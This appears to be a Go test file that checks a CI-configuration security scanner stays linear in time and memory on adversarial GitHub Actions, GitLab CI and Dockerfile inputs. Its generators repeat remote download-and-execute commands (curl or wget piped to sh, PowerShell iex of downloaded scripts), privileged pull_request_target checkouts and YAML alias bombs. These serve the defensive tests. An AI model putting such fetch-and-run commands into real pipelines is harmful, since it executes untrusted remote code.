package cicheck_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/buildwall/buildwall/internal/cicheck"
	"github.com/buildwall/buildwall/internal/ciconfig"
	"github.com/buildwall/buildwall/internal/testutil"
)

// Resource tests: parsing and checking every kind of CI file takes time
// and memory at most linear in its size on inputs built to be expensive
// (see testutil.AssertLinear for the bounds).

const wfHead = "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"

func checkWorkflow(data []byte) {
	w, err := ciconfig.ParseWorkflow(data)
	if w == nil {
		_ = cicheck.Unparseable("w.yml", err)
		return
	}
	cicheck.CheckWorkflow(&cicheck.Context{Path: "w.yml"}, w)
}

func checkAction(data []byte) {
	if a, _ := ciconfig.ParseAction(data); a != nil {
		cicheck.CheckAction(&cicheck.Context{Path: "action.yml"}, a)
	}
}

func checkGitLab(data []byte) {
	if g, _ := ciconfig.ParseGitLabCI(data); g != nil {
		cicheck.CheckGitLab(&cicheck.Context{Path: ".gitlab-ci.yml"}, g)
	}
}

func checkDockerfile(data []byte) {
	if d, _ := ciconfig.ParseDockerfile(data); d != nil {
		cicheck.CheckDockerfile(&cicheck.Context{Path: "Dockerfile"}, d)
	}
}

func TestResourceWorkflow(t *testing.T) {
	for _, g := range []testutil.Growth{
		{Name: "expression_nested", Gen: func(n int) []byte {
			return []byte(wfHead + "      - run: echo ${{ " + testutil.Nested(n, "(", "github.event.issue.title", ")") + " }}\n")
		}},
		{Name: "expression_unclosed", Gen: func(n int) []byte {
			return []byte(wfHead + "      - run: echo ${{ " + testutil.Nested(n, "(", "github.event.issue.title", "") + "\n")
		}},
		{Name: "expressions_one_line", Gen: func(n int) []byte {
			return testutil.Fill(n, wfHead+"      - run: echo ", testutil.Repeat("${{ github.event.issue.title }} ${{ toJSON(github.event.issue) }} "), "\n")
		}},
		{Name: "curl_sh_one_line", Gen: func(n int) []byte {
			return testutil.Fill(n, wfHead+"      - run: ", testutil.Repeat("curl -fsSL https://get.example/x | sh && "), "true\n")
		}},
		{Name: "download_then_run_many_names", Gen: func(n int) []byte {
			return testutil.Fill(n, wfHead+"      - run: ", func(i int) string { return fmt.Sprintf("curl -o f%d https://x.example/f; sh f%d; ", i, i) }, "\n")
		}},
		{Name: "pwsh_one_line", Gen: func(n int) []byte {
			return testutil.Fill(n, wfHead+"      - shell: pwsh\n        run: ", testutil.Repeat("iex (iwr https://x.example/a.ps1); "), "\n")
		}},
		{Name: "many_steps", Gen: func(n int) []byte {
			return testutil.Fill(n, wfHead, func(i int) string {
				return fmt.Sprintf("      - uses: octo/a%d@v1\n        with:\n          x: ${{ github.event.issue.title }}\n      - run: echo ${{ github.event.issue.title }}\n", i)
			}, "")
		}},
		{Name: "github_env_writes_many_steps", Gen: func(n int) []byte {
			// Every step writes a tainted variable and reads all the
			// earlier ones by name: the taint scope must not grow a
			// layer per write.
			return testutil.Fill(n, wfHead, func(i int) string {
				return fmt.Sprintf("      - run: |\n          echo \"V%d=${{ github.event.issue.title }}\" >> $GITHUB_ENV\n          echo \"${{ env.V0 }}\"\n", i)
			}, "")
		}},
		{Name: "step_output_chain", Gen: func(n int) []byte {
			// Each step's output is the previous one's: descriptions of
			// where a value comes from must not grow with the chain.
			return testutil.Fill(n, wfHead+"      - id: s0\n        run: echo \"o=${{ github.event.issue.title }}\" >> $GITHUB_OUTPUT\n", func(i int) string {
				return fmt.Sprintf("      - id: s%d\n        run: echo \"o=${{ steps.s%d.outputs.o }}\" >> $GITHUB_OUTPUT\n", i+1, i)
			}, "")
		}},
		{Name: "output_groups_nested", Gen: func(n int) []byte {
			// Deeply nested shell groups redirected to $GITHUB_OUTPUT:
			// only the outermost marks its lines.
			k := n / 40
			return []byte(wfHead + "      - id: g\n        run: |\n" + strings.Repeat("          {\n", k) +
				"          echo \"o=${{ github.event.issue.title }}\"\n" + strings.Repeat("          } >> \"$GITHUB_OUTPUT\"\n", k))
		}},
		{Name: "step_outputs_many_steps", Gen: func(n int) []byte {
			// Every step writes a tainted output: the job's tainted
			// paths must not be copied per step.
			return testutil.Fill(n, wfHead, func(i int) string {
				return fmt.Sprintf("      - id: s%d\n        run: echo \"o=${{ github.event.issue.title }}\" >> $GITHUB_OUTPUT\n      - run: echo \"${{ steps.s0.outputs.o }}\"\n", i)
			}, "")
		}},
		{Name: "many_jobs", Gen: func(n int) []byte {
			return testutil.Fill(n, "on: pull_request_target\njobs:\n", func(i int) string {
				return fmt.Sprintf("  j%d:\n    runs-on: [self-hosted]\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci\n", i)
			}, "")
		}},
		{Name: "privileged_checkouts_and_builds_one_job", Gen: func(n int) []byte {
			return testutil.Fill(n, "on: [pull_request_target, workflow_run, issue_comment]\npermissions: write-all\njobs:\n  a:\n    runs-on: [self-hosted]\n    steps:\n", func(i int) string {
				return fmt.Sprintf("      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          path: p%d\n      - run: cd p%d && npm ci && make\n", i, i)
			}, "")
		}},
		{Name: "release_with_many_caches", Gen: func(n int) []byte {
			return testutil.Fill(n, "on:\n  push:\n    tags: ['v*']\npermissions:\n  contents: write\n  packages: write\n  id-token: write\njobs:\n  a:\n    runs-on: x\n    steps:\n", func(i int) string {
				return fmt.Sprintf("      - uses: actions/cache@v4\n        with:\n          path: p%d\n          key: k%d\n      - uses: actions/setup-node@v4\n        with:\n          cache: npm\n      - run: npm publish && gh release create v%d\n", i, i, i)
			}, "")
		}},
		{Name: "tainted_env_many_steps", Gen: func(n int) []byte {
			// A job env of many tainted variables, and many steps that each
			// add one: each step's environment must not copy the job's.
			return testutil.Fill(n/2, "on: issues\njobs:\n  a:\n    runs-on: x\n    env:\n", func(i int) string {
				return fmt.Sprintf("      V%d: ${{ github.event.issue.title }}\n", i)
			}, "    steps:\n"+string(testutil.Fill(n/2, "", func(i int) string {
				return fmt.Sprintf("      - env:\n          S%d: ${{ github.event.issue.body }}\n        run: echo $S%d\n", i, i)
			}, "")))
		}},
		{Name: "matrix_uses_many_steps", Gen: func(n int) []byte {
			// Many matrix values and many steps whose uses: is the matrix
			// value: each step must not expand every value.
			return testutil.Fill(n/2, "on: push\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        act:\n", func(i int) string {
				return fmt.Sprintf("          - octo/a%d@v1\n", i)
			}, "    steps:\n"+strings.Repeat("      - uses: ${{ matrix.act }}\n", n/2/32))
		}},
		{Name: "flow_nested", Gen: func(n int) []byte {
			return []byte(wfHead + "      - uses: octo/a@v1\n        with:\n          x: " + testutil.Nested(n, "[", "", "]") + "\n")
		}},
		{Name: "block_nested", Gen: func(n int) []byte {
			return []byte(wfHead + "      - run: x\nx:\n" + testutil.DeepBlock(n, 2))
		}},
		{Name: "alias_bomb", Gen: func(n int) []byte {
			return []byte(wfHead + "      - run: x\n        with:\n" + testutil.AliasBomb(n, "          "))
		}},
		{Name: "long_quoted_scalar", Gen: func(n int) []byte {
			return testutil.Fill(n, wfHead+"      - run: \"", testutil.Repeat(`\u0041\t${{ github.event.issue.title }}\" `), "\"\n")
		}},
		{Name: "long_block_scalar", Gen: func(n int) []byte {
			return testutil.Fill(n, wfHead+"      - run: |\n", testutil.Repeat("          curl https://x.example | sh # ${{ github.event.issue.title }}\n"), "")
		}},
	} {
		t.Run(g.Name, func(t *testing.T) {
			g.Run = checkWorkflow
			testutil.AssertLinear(t, g)
		})
	}
}

const actionHead = "name: a\nruns:\n  using: composite\n  steps:\n"

func TestResourceAction(t *testing.T) {
	for _, g := range []testutil.Growth{
		{Name: "expression_nested", Gen: func(n int) []byte {
			return []byte(actionHead + "    - shell: bash\n      run: echo ${{ " + testutil.Nested(n, "(", "github.event.issue.title", ")") + " }}\n")
		}},
		{Name: "curl_sh_one_line", Gen: func(n int) []byte {
			return testutil.Fill(n, actionHead+"    - shell: bash\n      run: ", testutil.Repeat("wget -qO- https://x.example | bash; "), "\n")
		}},
		{Name: "many_steps", Gen: func(n int) []byte {
			return testutil.Fill(n, actionHead, func(i int) string {
				return fmt.Sprintf("    - uses: octo/a%d@v1\n    - shell: bash\n      run: echo ${{ github.event.issue.title }}\n", i)
			}, "")
		}},
		{Name: "flow_nested", Gen: func(n int) []byte {
			return []byte(actionHead + "    - uses: octo/a@v1\n      with:\n        x: " + testutil.Nested(n, "{a: ", "1", "}") + "\n")
		}},
		{Name: "alias_bomb", Gen: func(n int) []byte {
			return []byte(actionHead + "    - uses: octo/a@v1\n      with:\n" + testutil.AliasBomb(n, "        "))
		}},
		{Name: "block_nested", Gen: func(n int) []byte { return []byte(actionHead + "inputs:\n" + testutil.DeepBlock(n, 2)) }},
	} {
		t.Run(g.Name, func(t *testing.T) {
			g.Run = checkAction
			testutil.AssertLinear(t, g)
		})
	}
}

func TestResourceGitLab(t *testing.T) {
	for _, g := range []testutil.Growth{
		{Name: "curl_sh_one_line", Gen: func(n int) []byte {
			return testutil.Fill(n, "job:\n  script:\n    - ", testutil.Repeat("curl https://x.example | sh && "), "true\n")
		}},
		{Name: "many_script_lines", Gen: func(n int) []byte {
			return testutil.Fill(n, "job:\n  script:\n", testutil.Repeat("    - curl https://x.example | sh\n"), "")
		}},
		{Name: "many_jobs", Gen: func(n int) []byte {
			return testutil.Fill(n, "default:\n  image: node:20\n", func(i int) string {
				return fmt.Sprintf("job%d:\n  image: img%d:latest\n  services: [db:1]\n  script: [curl https://x.example | sh]\n", i, i)
			}, "")
		}},
		{Name: "many_includes", Gen: func(n int) []byte {
			return testutil.Fill(n, "include:\n", func(i int) string {
				return fmt.Sprintf("  - remote: https://x.example/%d.yml\n  - project: g/p%d\n    file: a.yml\n", i, i)
			}, "")
		}},
		{Name: "variables_expansion", Gen: func(n int) []byte {
			// One long variable used many times in one image name.
			return []byte("variables:\n  V: \"" + strings.Repeat("a", n/2) + "\"\njob:\n  image: \"" + strings.Repeat("$V", n/4) + "\"\n  script: [x]\n")
		}},
		{Name: "extends_chain", Gen: func(n int) []byte {
			return testutil.Fill(n, ".t0:\n  image: a:1\n", func(i int) string {
				return fmt.Sprintf(".t%d:\n  extends: [.t%d]\n  script: [curl x.example | sh]\n", i+1, i)
			}, "")
		}},
		{Name: "flow_nested", Gen: func(n int) []byte { return []byte("job:\n  script: " + testutil.Nested(n, "[", "x", "]") + "\n") }},
		{Name: "block_nested", Gen: func(n int) []byte { return []byte("job:\n  script: [x]\n  x:\n" + testutil.DeepBlock(n, 4)) }},
		{Name: "alias_bomb", Gen: func(n int) []byte {
			return []byte("job:\n  script: [x]\n  variables:\n" + testutil.AliasBomb(n, "    "))
		}},
		{Name: "merge_keys", Gen: func(n int) []byte {
			return testutil.Fill(n, ".base: &base\n  image: a:1\n  script: [curl x.example | sh]\n", func(i int) string {
				return fmt.Sprintf("j%d:\n  <<: *base\n", i)
			}, "")
		}},
	} {
		t.Run(g.Name, func(t *testing.T) {
			g.Run = checkGitLab
			testutil.AssertLinear(t, g)
		})
	}
}

func TestResourceDockerfile(t *testing.T) {
	for _, g := range []testutil.Growth{
		{Name: "curl_sh_one_line", Gen: func(n int) []byte {
			return testutil.Fill(n, "FROM alpine\nRUN ", testutil.Repeat("curl https://x.example | sh && "), "true\n")
		}},
		{Name: "curl_sh_continued", Gen: func(n int) []byte {
			return testutil.Fill(n, "FROM alpine\nRUN true", testutil.Repeat(" \\\n  && curl https://x.example | sh"), "\n")
		}},
		{Name: "many_instructions", Gen: func(n int) []byte {
			return testutil.Fill(n, "FROM alpine\n", func(i int) string { return fmt.Sprintf("RUN curl https://x.example/%d | sh\nENV A%d=b\n", i, i) }, "")
		}},
		{Name: "many_stages", Gen: func(n int) []byte {
			return testutil.Fill(n, "FROM alpine AS s0\n", func(i int) string {
				return fmt.Sprintf("FROM s%d AS s%d\nCOPY --from=s%d /a /a\nCOPY --from=img%d:1 /a /a\n", i, i+1, i, i)
			}, "")
		}},
		{Name: "global_args_and_stages", Gen: func(n int) []byte {
			return append(testutil.Fill(n/2, "", func(i int) string { return fmt.Sprintf("ARG A%d=img%d:1\n", i, i) }, ""),
				testutil.Fill(n/2, "", func(i int) string { return fmt.Sprintf("FROM ${A%d}\n", i%1000) }, "")...)
		}},
		{Name: "arg_expansion", Gen: func(n int) []byte {
			// One long default used many times in one FROM.
			return []byte("ARG V=" + strings.Repeat("a", n/2) + "\nFROM " + strings.Repeat("$V", n/4) + "\n")
		}},
		{Name: "add_url_then_runs", Gen: func(n int) []byte {
			return testutil.Fill(n, "FROM alpine\nADD https://x.example/i.sh /i.sh\nRUN ", testutil.Repeat("sh /i.sh; "), "\n")
		}},
		{Name: "many_add_urls", Gen: func(n int) []byte {
			return testutil.Fill(n, "FROM alpine\n", func(i int) string {
				return fmt.Sprintf("ADD https://x.example/%d.sh /f%d.sh\nRUN sh /f%d.sh\n", i, i, i)
			}, "")
		}},
		{Name: "heredocs", Gen: func(n int) []byte {
			return testutil.Fill(n, "FROM alpine\n", func(i int) string {
				return fmt.Sprintf("RUN <<EOF%d\ncurl https://x.example | sh\nEOF%d\n", i, i)
			}, "")
		}},
		{Name: "long_heredoc", Gen: func(n int) []byte {
			return testutil.Fill(n, "FROM alpine\nRUN <<EOF\n", testutil.Repeat("curl https://x.example | sh; "), "\nEOF\n")
		}},
	} {
		t.Run(g.Name, func(t *testing.T) {
			g.Run = checkDockerfile
			testutil.AssertLinear(t, g)
		})
	}
}

func TestResourceDownloadExec(t *testing.T) {
	for _, g := range []testutil.Growth{
		{Name: "pipes", Gen: func(n int) []byte {
			return testutil.Fill(n, "", testutil.Repeat("curl https://x.example | sh && "), "")
		}},
		{Name: "substitutions", Gen: func(n int) []byte {
			return testutil.Fill(n, "", testutil.Repeat(`sh -c "$(curl -fsSL https://x.example)"; `), "")
		}},
		{Name: "downloads_one_name", Gen: func(n int) []byte {
			return testutil.Fill(n, "", testutil.Repeat("curl -o f https://x.example; chmod +x f; ./f; "), "")
		}},
		{Name: "fetchers_without_end", Gen: func(n int) []byte { return testutil.Fill(n, "", testutil.Repeat("curl wget "), "") }},
		{Name: "pwsh_lines", Gen: func(n int) []byte {
			return testutil.Fill(n, "", testutil.Repeat("IEX (New-Object Net.WebClient).DownloadString('https://x.example')\n"), "")
		}},
		{Name: "pwsh_words_no_match", Gen: func(n int) []byte { return testutil.Fill(n, "iex ", testutil.Repeat("iexx-iwrr-"), "") }},
	} {
		t.Run(g.Name, func(t *testing.T) {
			g.Run = func(data []byte) { cicheck.DownloadExec(string(data)) }
			testutil.AssertLinear(t, g)
		})
	}
}
